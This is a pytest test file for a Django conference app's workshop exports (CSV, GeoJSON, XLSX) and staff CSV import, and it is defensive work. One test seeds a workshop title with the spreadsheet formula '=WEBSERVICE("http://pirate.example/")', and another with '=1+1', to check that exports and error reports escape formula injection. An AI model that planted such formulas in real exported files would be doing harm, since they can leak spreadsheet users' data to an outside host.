"""Export of the workshops in the import columns (round trip) and the staff web import."""

import csv
import io
import json
from html import unescape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from essaim.commun.models import StatutTravail, Travail
from essaim.conference.models import Conference

from .test_import import CSV, attendus, importer, rapport_json


@pytest.fixture
def edition(db):
    importer("hdf-2023", str(CSV), "--region", "32", "--annee", "2023")
    return Conference.objects.get(slug="hdf-2023")


def contenu(reponse) -> bytes:
    return b"".join(reponse.streaming_content) if reponse.streaming else reponse.content


def test_l_export_csv_se_reimporte_a_l_identique(client, edition, tmp_path):
    reponse = client.get(reverse("conference:export", args=["hdf-2023", "csv"]))
    texte = contenu(reponse).decode("utf-8-sig")
    lignes = list(csv.DictReader(io.StringIO(texte)))
    assert len(lignes) == 36 and lignes[0]["organisateurs"] == "Collectif Phare"
    assert any(ligne["date"] == "2023-12" for ligne in lignes)
    fichier = tmp_path / "export.csv"
    fichier.write_text(texte, encoding="utf-8")
    sortie = importer("copie", str(fichier), "--region", "32", "--annee", "2024")
    assert "36 créées" not in sortie  # 2023 dates are outside a 2024 edition...
    Conference.objects.filter(slug="copie").delete()
    sortie = importer("hdf-2023", str(fichier))  # ...and re-importing into its own edition changes nothing
    assert "36 inchangées, 0 rejetées" in sortie
    assert rapport_json("hdf-2023") == attendus()


def test_l_export_geojson_place_les_ateliers_situes(client, edition):
    donnees = json.loads(contenu(client.get(reverse("conference:export", args=["hdf-2023", "geojson"]))))
    assert donnees["type"] == "FeatureCollection"
    situes = [f for f in donnees["features"] if f["geometry"]]
    assert len(donnees["features"]) == 36
    assert len(situes) == 29  # 36 minus 5 online and 2 unknown places


def test_un_format_d_export_inconnu_est_introuvable(client, edition):
    assert client.get("/conferences/hdf-2023/ateliers.pdf").status_code == 404


def test_le_staff_importe_un_fichier_en_arriere_plan_et_lit_le_rapport(client, edition, staff_hdf):
    client.force_login(staff_hdf)
    assert "Lancer l'import" in unescape(
        client.get(reverse("conference:importer", args=["hdf-2023"])).content.decode()
    )
    casse = (
        "organisateurs;intitule;transitions;date;commune;departement;format;participants\n"
        "Nouveau;Atelier en plus;sociale;2023-07-01;Amiens;80;presentiel;12\n"
        "Autre;Lieu faux;sociale;2023-07-02;Amiens;59;presentiel;12\n"
    )
    fichier = SimpleUploadedFile("ajout.csv", casse.encode("cp1252"), content_type="text/csv")
    reponse = client.post(
        reverse("conference:importer", args=["hdf-2023"]), {"fichier": fichier}, follow=True
    )
    travail = Travail.objects.get()
    assert travail.statut == StatutTravail.TERMINE
    assert "2 lignes lues, 1 créées, 0 modifiées, 0 inchangées, 1 rejetées." in unescape(
        reponse.content.decode()
    )
    html = unescape(client.get(travail.resultat["lien"]).content.decode())
    assert "Commune « Amiens » introuvable dans le département 59." in html
    erreurs = client.get(travail.resultat["lien"] + "?format=csv").content.decode("utf-8-sig")
    assert erreurs.splitlines()[0] == "ligne;colonne;valeur;raison" and erreurs.splitlines()[1].startswith(
        "3;commune;Amiens;"
    )
    assert edition.ateliers.count() == 37


def test_un_partenaire_ne_peut_pas_importer(client, edition, partenaire_hdf):
    client.force_login(partenaire_hdf)
    assert client.get(reverse("conference:importer", args=["hdf-2023"])).status_code == 403


def test_les_exports_n_ecrivent_aucune_formule(client, edition):
    atelier = edition.ateliers.order_by("pk").first()
    atelier.intitule = '=WEBSERVICE("http://pirate.example/")'
    atelier.save()
    texte = contenu(client.get(reverse("conference:export", args=["hdf-2023", "csv"]))).decode("utf-8-sig")
    intitules = {ligne["intitule"] for ligne in csv.DictReader(io.StringIO(texte))}
    assert "'" + atelier.intitule in intitules and atelier.intitule not in intitules
    from openpyxl import load_workbook

    xlsx = contenu(client.get(reverse("conference:export", args=["hdf-2023", "xlsx"])))
    cellules = [ligne[1] for ligne in load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2)]
    piegee = next(c for c in cellules if c.value == atelier.intitule)
    assert piegee.data_type == "s"
    assert {c.data_type for c in cellules} == {"s"}


def test_le_rapport_d_erreurs_d_import_n_ecrit_aucune_formule(client, edition, staff_hdf):
    client.force_login(staff_hdf)
    casse = (
        "organisateurs;intitule;transitions;date;commune;departement;format;participants\n"
        "Autre;Lieu faux;sociale;2023-07-02;=1+1;59;presentiel;12\n"
    )
    fichier = SimpleUploadedFile("casse.csv", casse.encode(), content_type="text/csv")
    client.post(reverse("conference:importer", args=["hdf-2023"]), {"fichier": fichier})
    travail = Travail.objects.get()
    erreurs = client.get(travail.resultat["lien"] + "?format=csv").content.decode("utf-8-sig")
    assert erreurs.splitlines()[1].startswith("2;commune;'=1+1;")
